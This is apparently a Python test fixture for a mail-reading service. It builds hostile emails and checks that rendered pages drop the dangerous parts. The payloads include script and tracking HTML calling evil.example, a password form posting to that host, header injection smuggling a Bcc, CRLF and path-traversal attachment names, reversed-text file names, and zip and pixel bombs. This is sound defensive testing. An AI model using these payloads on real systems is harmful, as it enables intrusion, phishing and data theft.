"""Mails made to harm the desk, each with the words that its page must say, and what no page may hold."""

from __future__ import annotations

import base64
import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from email.message import EmailMessage
from html.parser import HTMLParser

from tests.mailroom.letters import CUSTOMER, letter, new_id
from tests.mailtext.test_hostile import declared_png, deep, many_parts

EVE = "eve@evil.example"
PAGE = (
    "<html><head><meta http-equiv=refresh content='0;url=http://evil.example/refresh'>"
    "<base href='http://evil.example/'><link rel=stylesheet href='http://evil.example/a.css'>"
    "<style>body { background: url(http://evil.example/style.png) } @import 'http://evil.example/b.css';</style>"
    "<script src='http://evil.example/a.js'></script><script>document.title = 'run'</script></head>"
    "<body onload='document.title = 1'><p>Please look at our pump.</p>"
    "<img src='http://evil.example/pixel.png' onerror='document.title = 2' srcset='http://evil.example/2.png 2x'>"
    "<div style='background-image: url(http://evil.example/div.png)'>It leaks.</div>"
    "<form action='http://evil.example/form'><input name=password autofocus><button>Sign in</button></form>"
    "<iframe src='http://evil.example/frame'></iframe><object data='http://evil.example/o'></object>"
    "<svg onload='document.title = 3'><image href='http://evil.example/svg.png'/><script>document.title=4</script></svg>"
    "<video poster='http://evil.example/poster.png' autoplay><source src='http://evil.example/v'></video>"
    "<a href='javascript:document.title=5'>Our plant</a>"
    "<p>&lt;script src='http://fetch.example/a.js'&gt;&lt;/script&gt;"
    "&lt;img src='http://fetch.example/b.png' onerror='window.ran = 1'&gt;</p></body></html>"
)
SVG = (
    "<svg xmlns='http://www.w3.org/2000/svg' onload='document.title = 6'><script>document.title = 7</script>"
    "<image href='http://evil.example/svg-file.png'/></svg>"
)


@dataclass(frozen=True)
class Hostile:
    """`make` gives the bytes; `says` what its page must say, `silent` what its page must not hold."""

    make: Callable[[], bytes]
    says: tuple[str, ...]
    silent: tuple[str, ...] = ()


def raw(*fields: str, body: str = "Please help.", sender: str = CUSTOMER) -> bytes:
    """A mail whose header lines stand as they are given."""
    given = [*fields] if any(field.lower().startswith("from:") for field in fields) else [f"From: {sender}", *fields]
    if not any(field.lower().startswith("message-id:") for field in fields):
        given.append(f"Message-ID: <{new_id()}>")
    return "\r\n".join([*given, "", body, ""]).encode("utf-8")


def with_file(data: bytes, name: str, subtype: str = "octet-stream") -> bytes:
    mail = EmailMessage()
    mail["From"], mail["Subject"], mail["Message-ID"] = CUSTOMER, "Our file", f"<{new_id()}>"
    mail.set_content("See the file.")
    mail.add_attachment(data, maintype="application", subtype=subtype, filename=name)
    return mail.as_bytes()


def html_mail(page: str = PAGE) -> bytes:
    mail = EmailMessage()
    mail["From"], mail["Subject"], mail["Message-ID"] = CUSTOMER, "Our pump", f"<{new_id()}>"
    mail.set_content(page, subtype="html")
    mail.add_attachment(SVG.encode(), maintype="image", subtype="svg+xml", filename="plan.svg")
    mail.add_attachment(page.encode(), maintype="text", subtype="html", filename="page.html")
    return mail.as_bytes()


def zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for number in range(4):
            archive.writestr(f"request-{number}.txt", b"\0" * 10_000_000)
    return with_file(out.getvalue(), "request.zip", "zip")


def picture() -> bytes:
    return with_file(declared_png(40_000, 40_000), "qr.png")


def megabytes() -> bytes:
    """25 MB, all of it one text in base64."""
    lines = base64.encodebytes(b"\0\xff pump " * 2_250_000)
    return raw(
        "Subject: Our log", "Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: base64",
        body=lines.decode(),
    )  # fmt: skip


INJECTED = "=?utf-8?q?=0D=0ABcc=3A_eve@evil.example=0D=0AX-Injected=3A_yes=0D=0A=0D=0AHi?="
IN_BASE64 = "=?utf-8?b?" + base64.b64encode(b"x\r\nTo: eve@evil.example").decode() + "?="
TURNED = "report\u202etxt.exe"
HOSTILE: dict[str, Hostile] = {
    "line breaks in encoded words": Hostile(
        lambda: raw(
            f"From: Ada =?utf-8?q?=0D=0ABcc=3A_eve=40evil.example?= <{CUSTOMER}>",
            f"Subject: Pump {INJECTED} {IN_BASE64}",
            f"Reply-To: =?utf-8?q?=0D=0ABcc=3A_eve?= <{CUSTOMER}>",
        ),
        ("Pump Bcc: eve@evil.example X-Injected: yes", "Ada Bcc: eve@evil.example <ada@acme-water.example>"),
    ),
    "a sender in an encoded word": Hostile(
        lambda: raw(f"From: Ada =?utf-8?q?=0D=0ABcc=3A_eve@evil.example?= <{CUSTOMER}>", "Subject: Pump"),
        ("names several senders", "no sender's address that can be answered", "Please help."),
    ),
    "other letters that end lines": Hostile(
        lambda: raw(
            "Subject: a\x0bBcc: b\x0cBcc: c\x1cBcc: d\x1eBcc: e\u0085Bcc: f\u2028Bcc: g\u2029Bcc: eve@evil.example",
            "Message-ID: <a\u2028Bcc: eve@evil.example>",
        ),
        ("Bcc: eve@evil.example",),
    ),
    "ids with line breaks": Hostile(
        lambda: raw(
            "Subject: Pump",
            "Message-ID: <a\rX-Injected: yes@acme-water.example>",
            "In-Reply-To: <b\r\n\tX-Injected: yes@acme-water.example>",
            "References: <=?utf-8?q?=0D=0AX-Injected=3A_yes?=@acme-water.example> <c\x00d@e>",
        ),
        ("Please help.",),
    ),
    "an id of encoded words": Hostile(
        lambda: raw("Subject: Pump", "Message-ID: <=?utf-8?q?=0D=0AX-Injected=3A_yes=0D=0A?=@acme-water.example>"),
        ("Please help.",),
    ),
    "1,000 parts deep": Hostile(lambda: deep(1_000), ("nests its parts too deeply",)),
    "10,000 parts": Hostile(lambda: many_parts(10_000), ("too many parts to read all of them",)),
    "a zip bomb": Hostile(zip_bomb, ("request.zip", "An archive. It is not opened here", "as a .txt file")),
    "a picture of gigabytes": Hostile(picture, ("qr.png", "more pixels", "Ask the customer")),
    "25 MB of base64": Hostile(megabytes, ("longer than 2 MB; only its beginning was read",)),
    "a hostile page": Hostile(
        html_mail,
        ("Please look at our pump.", "It leaks.", "<img src='http://fetch.example/b.png'", "plan.svg", "page.html"),
        ("evil.example", "document.title"),
    ),
    "nothing but NUL": Hostile(
        lambda: raw("Subject: \0a\0", "Content-Type: text/plain", body="\0" * 1000 + "at the end"), ("at the end",)
    ),
    "NUL behind an encoding": Hostile(
        lambda: raw(
            "Subject: =?utf-8?q?=00Pump=00?=", 'Content-Type: text/plain; name="=?utf-8?q?a=00b.txt?="',
            "Content-Transfer-Encoding: base64", body=base64.b64encode(b"a\0b" * 50).decode(),
        ),
        ("Pump", "ab.txt"),
    ),
    "2,000 recipients": Hostile(
        lambda: raw(
            "Subject: Pump",
            *(f"{field}: " + ", ".join(f"u{n}@list.example" for n in range(2_000)) for field in ("To", "Cc")),
        ),
        ("more addresses in To than are kept here", "more addresses in Cc than are kept here"),
        ("u1@list.example", "u1999@list.example"),
    ),
    "2,000 addresses to answer": Hostile(
        lambda: raw("Subject: Pump", "Reply-To: " + ", ".join(f"u{n}@list.example" for n in range(2_000))),
        ("more addresses in Reply-To than are kept here", "asks for answers to another address", "u0@list.example"),
        ("u1@list.example",),
    ),
    "endless header lines": Hostile(
        lambda: raw(
            "Subject: " + "x" * 200_000,
            "X-Long: " + "y" * 700_000,
            "References: " + " ".join(f"<{n:0240}@a.example>" for n in range(1_000)),
            f"Message-ID: <{'i' * 230}@a.example>",
        ),
        ("x" * 250,),
        ("x" * 301,),
    ),
    "an address that no server takes": Hostile(
        lambda: raw(f"From: {'a' * 64}@{'b' * 60}.{'c' * 60}.{'d' * 60}.acme-water.example", "Subject: Pump"),
        ("no sender's address that can be answered", "No address is known here"),
    ),
    "names with paths": Hostile(
        lambda: with_file(b"x", "../../../etc/cron.d/pump.txt"), ("pump.txt",), ("cron.d", "../..")
    ),
    "names that read otherwise": Hostile(
        lambda: with_file(b"MZ", TURNED), ("reporttxt.exe",), ("\u202e",)
    ),
    "names with line breaks": Hostile(
        lambda: raw(
            "Subject: Pump", "Content-Type: application/octet-stream",
            "Content-Disposition: attachment; filename*=utf-8''a%0D%0ASet-Cookie:%20x=1%0D%0A%0D%0A%22%3Cscript%3E.txt",
        ),
        ("Set-Cookie",),
    ),
    "text that turns around": Hostile(
        lambda: letter("Pay \u202e0001\u202c to \u2066us\u2069\n", subject="A\u202eB"),
        ("Pay 0001 to us",),
        ("\u202e", "\u2066"),
    ),
}  # fmt: skip


# --- what no page may hold ---------------------------------------------------------------------------------

_FORBIDDEN = {"base", "embed", "frame", "iframe", "object", "style", "audio", "video"}
_ADDRESSES = {"action", "background", "data", "formaction", "href", "poster", "src", "srcset"}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        wrong = [name for name in given if name.startswith("on") or name in ("style", "http-equiv")]
        wrong += [name for name in _ADDRESSES & set(given) if given[name][:1] not in ("", "/", "?", "#")]
        wrong += [name for name in _ADDRESSES & set(given) if given[name].startswith("//")]
        if tag in _FORBIDDEN or wrong or (tag == "script" and "src" not in given):
            self.found.append(f"<{tag} {given}>")


def working_parts(html: str) -> list[str]:
    """The elements of a page that would run something, style it or fetch from elsewhere."""
    parser = _Tags()
    parser.feed(html)
    return parser.found
